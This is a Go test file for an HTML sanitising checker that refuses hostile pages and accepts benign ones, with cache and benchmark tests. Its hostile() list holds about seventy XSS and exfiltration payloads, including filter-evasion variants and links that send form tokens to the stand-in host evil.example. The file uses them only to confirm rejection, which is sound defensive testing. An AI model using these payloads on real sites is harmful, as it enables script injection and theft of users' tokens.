package page

import (
	"fmt"
	"maps"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/kakitome/kakitome/plugins/proto"
	standard "github.com/kakitome/kakitome/plugins/render/standard/page"
)

func around(body string) string {
	return `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>t</title><style>p{color:#000}</style></head><body>` + body + `</body></html>`
}

const token = `<input type="hidden" name="form" value="__FORM__">`

func TestCheckRefusesHostileHTML(t *testing.T) {
	for name, doc := range hostile() {
		_, err := check([]byte(doc))
		require.Error(t, err, name)
		require.NotContains(t, err.Error(), "evil.example", name)
	}
}

// hostile are pages that are refused.
func hostile() map[string]string {
	form := `<form method="post" action="__LINK__/open">` + token + `<button>x</button></form>`
	return map[string]string{
		"script":                                 around(`<script>1</script>`),
		"svg script":                             around(`<svg><script>1</script></svg>`),
		"event handler":                          around(`<p onclick="x()">a</p>`),
		"event handler, cased":                   around(`<svg ONLOAD=x()></svg>`),
		"style attribute":                        around(`<p style="background:url(https://evil.example/)">a</p>`),
		"javascript link":                        around(`<a href="javascript:alert(1)">a</a>`),
		"javascript, spaced":                     around("<a href=\" java\tscript:alert(1)\">a</a>"),
		"javascript, entities":                   around(`<a href="&#106;avascript:alert(1)">a</a>`),
		"data link":                              around(`<a href="data:text/html,<script>1</script>">a</a>`),
		"vbscript link":                          around(`<a href="vbscript:x">a</a>`),
		"relative link":                          around(`<a href="/admin">a</a>`),
		"scheme-less link":                       around(`<a href="//evil.example/">a</a>`),
		"svg link by xlink":                      around(`<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>`),
		"link action by GET":                     around(`<a href="__LINK__/pay">a</a>`),
		"link escapes":                           around(`<a href="__LINK__/documents/../../x">a</a>`),
		"link host trick":                        around(`<a href="__LINK__.evil.example/">a</a>`),
		"foreign image":                          around(`<img src="https://evil.example/x.png" alt="">`),
		"svg image":                              around(`<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="">`),
		"srcset":                                 around(`<img srcset="https://evil.example/x.png 1x" alt="">`),
		"svg image element":                      around(`<svg><image href="https://evil.example/x.png"/></svg>`),
		"svg use":                                around(`<svg><use href="https://evil.example/x.svg#a"/></svg>`),
		"svg animation":                          around(`<svg><animate attributeName="href" to="javascript:1"/></svg>`),
		"foreign object":                         around(`<svg><foreignObject><p>a</p></foreignObject></svg>`),
		"fill from elsewhere":                    around(`<svg><path fill="url(https://evil.example/)" d=""/></svg>`),
		"iframe":                                 around(`<iframe src="https://evil.example/"></iframe>`),
		"srcdoc":                                 around(`<iframe srcdoc="<script>1</script>"></iframe>`),
		"object":                                 around(`<object data="https://evil.example/"></object>`),
		"embed":                                  around(`<embed src="https://evil.example/">`),
		"base":                                   strings.Replace(around(""), "<title>", `<base href="https://evil.example/"><title>`, 1),
		"refresh":                                strings.Replace(around(""), "<title>", `<meta http-equiv="refresh" content="0;url=https://evil.example/"><title>`, 1),
		"stylesheet":                             strings.Replace(around(""), "<title>", `<link rel="stylesheet" href="https://evil.example/"><title>`, 1),
		"open graph":                             strings.Replace(around(""), "<title>", `<meta name="og:image" content="https://evil.example/"><title>`, 1),
		"import":                                 strings.Replace(around(""), "p{color", `@import "https://evil.example/";p{color`, 1),
		"style url":                              strings.Replace(around(""), "p{color", `p{background:URL( "https://evil.example/")}p{color`, 1),
		"style url, quoted and far":              strings.Replace(around(""), "p{color", "p{background:url(data:image/png;base64,AA), url\t\n('//evil.example/')}p{color", 1),
		"style url without anything":             strings.Replace(around(""), "p{color", "p{background:url(", 1),
		"style url, escaped":                     strings.Replace(around(""), "p{color", `p{background:\75rl(https://evil.example/)}p{color`, 1),
		"second style":                           around(`<style>p{}</style>`),
		"template":                               around(`<template><script>1</script></template>`),
		"noscript":                               around(`<noscript><p>a</p></noscript>`),
		"comment":                                around(`<!--[if IE]><script>1</script><![endif]-->`),
		"foreign form":                           around(`<form method="post" action="https://evil.example/">` + token + `</form>`),
		"form without action":                    around(`<form method="post">` + token + `</form>`),
		"form to another step":                   around(`<form method="post" action="__LINK__/admin">` + token + `</form>`),
		"fragment of another step":               around(`<form method="post" action="__LINK__/pay#methods">` + token + `</form>`),
		"fragment that is none":                  around(`<form method="post" action="__LINK__/content#/../a?__FORM__">` + token + `</form>`),
		"form by GET":                            around(`<form action="__LINK__/open">` + token + `</form>`),
		"form without token":                     around(`<form method="post" action="__LINK__/open"><button>x</button></form>`),
		"form with two tokens":                   around(`<form method="post" action="__LINK__/open">` + token + token + `</form>`),
		"token by GET form":                      around(form + `<a href="https://evil.example/?__FORM__">a</a>`),
		"token sent elsewhere, counts made even": around(strings.Replace(form, "__FORM__", "&#95;_FORM__", 1) + `<a href="https://evil.example/?__FORM__">a</a>`),
		"link sent elsewhere, counts made even":  around(strings.Replace(form, "__LINK__", "&#95;_LINK__", 1) + `<a href="https://evil.example/?__LINK__">a</a>`),
		"referrer":                               strings.Replace(around(""), "<title>", `<meta name="referrer" content="unsafe-url"><title>`, 1),
		"token in a text":                        around(form + `<p>__FORM__</p>`),
		"visible token":                          around(`<form method="post" action="__LINK__/open"><input name="form" value="__FORM__"></form>`),
		"formaction":                             around(`<form method="post" action="__LINK__/open">` + token + `<button formaction="https://evil.example/">x</button></form>`),
		"control of a form":                      around(`<form id="a" method="post" action="__LINK__/open">` + token + `</form><button form="a">x</button>`),
		"file upload":                            around(`<form method="post" action="__LINK__/open">` + token + `<input type="file"></form>`),
		"password":                               around(`<form method="post" action="__LINK__/open">` + token + `<input type="password" name="p"></form>`),
		"end of the body in an attribute":        strings.Replace(around(`<p title="x">x</p>`), `x">x</p></body>`, `</body><meta http-equiv=refresh content=0>">x</p></BODY>`, 1),
		"end of the body in an attribute, alone": strings.Replace(around(`<p title="</body x">x</p>`), `</p></body></html>`, `</p>`, 1),
		"end of the body in a text":              strings.Replace(around(`<textarea name="a">x`), `x</body>`, `</body x</textarea>`, 1),
		"end of the body in a tag without end":   strings.Replace(around(`<meta http-equiv=refresh content="x`), `x</body>`, `0;url=https://evil.example/?</body>`, 1),
		"two ends of the body":                   around(`</body>`),
		"no doctype":                             `<html><body>a</body></html>`,
		"not UTF-8":                              around("\xff"),
		"NUL":                                    around("\x00"),
		"too large":                              around(strings.Repeat("a", MaxHTML)),
		"custom element":                         around(`<x-y>a</x-y>`),
		"math":                                   around(`<math><mtext>a</mtext></math>`),
		"frameset":                               `<!doctype html><html><frameset><frame src="https://evil.example/"></frameset></html>`,
	}
}

func TestCheckTakesWhatAPageNeeds(t *testing.T) {
	for name, body := range map[string]string{
		"links":   `<a href="tel:0000000000">a</a><a href="https://example.jp/x?y=1" rel="noopener" target="_blank">b</a><a href="#q1">c</a><a href="__LINK__">d</a><a href="__LINK__/documents/notice.pdf">e</a>`,
		"form":    `<form method="post" action="__LINK__/identify">` + token + `<label for="a">生年月日</label><input type="text" id="a" name="birth_date" inputmode="numeric" autocomplete="bday" maxlength="20" required aria-describedby="b"><button>認証</button></form>`,
		"turn":    `<form method="post" action="__LINK__/content#methods">` + token + `<button>x</button></form><form method="post" action="__LINK__/menu">` + token + `<button>x</button></form>`,
		"barcode": `<svg viewBox="0 0 308 96" preserveAspectRatio="none" shape-rendering="crispEdges" role="img" aria-label="x"><path fill="#000" d="M0 0h1v1z"/></svg>`,
		"image":   `<img src="data:image/png;base64,iVBORw0KGgo=" alt="">`,
		"words":   `<p title="&lt;/body&gt;">&lt;/body&gt;</p>`,
		"nothing": ``,
	} {
		style, err := check([]byte(around(body)))
		require.NoError(t, err, name)
		require.NotEmpty(t, style)
	}
}

// agree says that a page whose style is known is judged as the whole of it is.
func agree(t *testing.T, doc string) {
	t.Helper()
	whole := checker{}
	want := whole.page([]byte(doc))
	style, err := check([]byte(doc))
	require.Equal(t, want == nil, err == nil, "%q: %v, %v", doc, want, err)
	if want == nil {
		require.Equal(t, whole.style, style, doc)
	}
}

// A known style is cut out before a page is parsed: whatever stands around it, and wherever it stands, the page is judged as before.
func TestKnownStyleChangesNoVerdict(t *testing.T) {
	_, err := check([]byte(around("")))
	require.NoError(t, err)
	require.NotEmpty(t, passed.get([]byte("p{color:#000}")))
	const style = `<style>p{color:#000}</style>`
	docs := map[string]string{
		"in a title":              strings.Replace(around(""), "<title>t</title>"+style, "<title>"+style+"</title>", 1),
		"in a title, one besides": strings.Replace(around(""), "<title>t</title>", "<title>"+style+"</title>", 1),
		"in an attribute":         strings.Replace(around(`<p title='`+style+`'>x</p>`), style, "", 1),
		"in a textarea":           strings.Replace(around(`<textarea name="a">`+style+`</textarea>`), style, "", 1),
		"in a comment":            strings.Replace(around(`<!-- `+style+` -->`), style, "", 1),
		"in a select":             strings.Replace(around(`<select><option>`+style+`</option></select>`), style, "", 1),
		"in an svg":               strings.Replace(around(`<svg>`+style+`</svg>`), style, "", 1),
		"in a desc of an svg":     strings.Replace(around(`<svg><desc>`+style+`</desc></svg>`), style, "", 1),
		"in a table":              strings.Replace(around(`<table>`+style+`</table>`), style, "", 1),
		"in the body":             strings.Replace(around(style), style, "", 1),
		"in a style":              strings.Replace(around(""), style, `<STYLE>a`+style+`b</STYLE>`, 1),
		"behind one":              strings.Replace(around(""), style, `<style >a{}</style>`+style, 1),
		"before the end":          around("") + style,
		"behind the head":         strings.Replace(around(""), style+"</head>", "</head>"+style, 1),
		"in a noscript":           strings.Replace(around(""), style, "<noscript>"+style+"</noscript>", 1),
		"without an end":          strings.Replace(around(""), "</style>", "", 1),
		"ended otherwise":         strings.Replace(around(""), "</style>", "</style ><p></p></style>", 1),
		"an end of the body":      strings.Replace(around(""), "p{color", "/*</body*/p{color", 1),
		"a placeholder":           strings.Replace(around(""), "p{color", "/*__LINK__*/p{color", 1),
		"an end of the link":      strings.Replace(around(""), "p{color", "/*__UNTIL__*/p{color", 1),
		"other line ends":         strings.Replace(around(""), "p{color", "p\r\n{color", 1),
		"a comment in HTML":       strings.Replace(around(""), "p{color", "<!-- p{color", 1),
		"no style":                strings.Replace(around(""), style, "", 1),
	}
	maps.Copy(docs, hostile())
	delete(docs, "too large") // page does not look at it
	for name, doc := range docs {
		for range 2 { // the second time its own style is known
			t.Run(name, func(t *testing.T) { agree(t, doc) })
		}
	}
}

func TestStylesStayBounded(t *testing.T) {
	var s styles
	for i := range 3 * keptStyles {
		text := fmt.Sprint(i)
		s.keep([]byte(text), &checker{text: text, style: "sha256-" + text})
		require.Equal(t, "sha256-"+text, s.get([]byte(text)))
		require.LessOrEqual(t, len(s.byText), keptStyles)
	}
	long := strings.Repeat("a", keptStyle+1)
	for _, text := range []string{long, "a<b", "__LINK__"} {
		s.keep([]byte(text), &checker{text: text, style: "x"})
		require.Empty(t, s.get([]byte(text)))
	}
	s.keep([]byte("a\r\n"), &checker{text: "a\n", style: "x"})
	require.Empty(t, s.get([]byte("a\r\n")), "what is parsed is another text")
}

// count finds what the expression that stood in its place found.
func TestCountIsOfBothCases(t *testing.T) {
	end := regexp.MustCompile(`(?i)</body`)
	for _, doc := range []string{"", "<", "</body", "</BoDy></body>", "<</body", "</bod", "< /body", "</bodybody</body<"} {
		require.Len(t, end.FindAllString(doc, -1), count([]byte(doc), "</body"), doc)
	}
}

// BenchmarkCheck is of pages as the standard renderer draws them.
func BenchmarkCheck(b *testing.B) {
	for _, view := range []proto.View{proto.View_LANDING, proto.View_INFO} {
		b.Run(view.String(), func(b *testing.B) {
			doc, refused := standard.Render(sample(view))
			require.Nil(b, refused)
			b.ReportAllocs()
			for b.Loop() {
				if _, err := check(doc); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
